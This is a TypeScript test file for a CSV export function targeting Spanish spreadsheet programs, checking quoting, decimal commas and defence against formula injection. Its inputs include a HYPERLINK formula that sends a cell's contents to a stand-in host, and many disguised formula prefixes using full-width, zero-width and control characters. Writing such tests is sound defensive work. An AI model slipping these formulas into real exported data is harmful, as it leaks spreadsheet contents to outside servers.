import fc from 'fast-check';
import { csvText } from './csv.ts';

/** Returns the cells of a CSV file as text, as a spreadsheet program reads them. */
function cellsOf(file: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^";\r\n]*))(;|\r\n)/gy;
  for (const [, quoted, plain, end] of file.replace('\uFEFF', '').matchAll(cell)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

it('writes rows as Spanish spreadsheet programs open them: UTF-8 with its mark, semicolons, decimal commas', () => {
  expect(
    csvText([
      ['Nombre', 'Horas'],
      ['Ana Ñu', 12.5],
      ['Sin dato', null],
    ]),
  ).toBe('\uFEFF"Nombre";"Horas"\r\n"Ana Ñu";12,5\r\n"Sin dato";\r\n');
});

it('keeps quotes, separators and line breaks in their cell', () => {
  const hostile = 'dijo "hola"; y\r\nsiguió, "=1+1';
  expect(cellsOf(csvText([[hostile, 'otra']]))).toEqual([[hostile, 'otra']]);
});

it.each([
  '=HYPERLINK("https://malo.test?"&A1)',
  '+34 600+1',
  '+34 =1+1',
  '+34',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '−1',
])('writes %j so that it is read as text and not reckoned', (text) => {
  expect(cellsOf(csvText([[text]]))).toEqual([[`'${text}`]]);
});

it.each([
  ['+34 600 000 000', '(+34) 600 000 000'],
  ['+34600000000', '(+34) 600000000'],
  ['+34-600.000.000', '(+34) 600.000.000'],
  ['+1 555 0100', '(+1) 555 0100'],
  ['+376 712 345', '(+376) 712 345'],
])('writes the telephone number %s as %s, which no program takes for a sum', (phone, cell) => {
  expect(cellsOf(csvText([[phone]]))).toEqual([[cell]]);
});

it.each(['Ana', '3 + 4', 'a=b', 'correo@ejemplo.test', '', '¿Qué?'])('leaves %j as it is', (text) => {
  expect(cellsOf(csvText([[text]]))).toEqual([[text]]);
});

it('leaves a number a number, also below zero', () => {
  expect(csvText([[-3, 0]])).toBe('\uFEFF-3;0\r\n');
});

it('gives every text back, and never a cell that a spreadsheet program would reckon', () => {
  const sly = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n "\';,a＝\u200b') });
  fc.assert(
    fc.property(fc.array(fc.array(sly, { minLength: 2, maxLength: 3 }), { minLength: 1 }), (rows) => {
      const read = cellsOf(csvText(rows)).flat();
      for (const [index, text] of rows.flat().entries()) expect([text, `'${text}`]).toContain(read[index]);
      for (const text of read) expect(text).not.toMatch(/^[\s\p{C}]*[=+\-@＝]/u);
    }),
  );
});
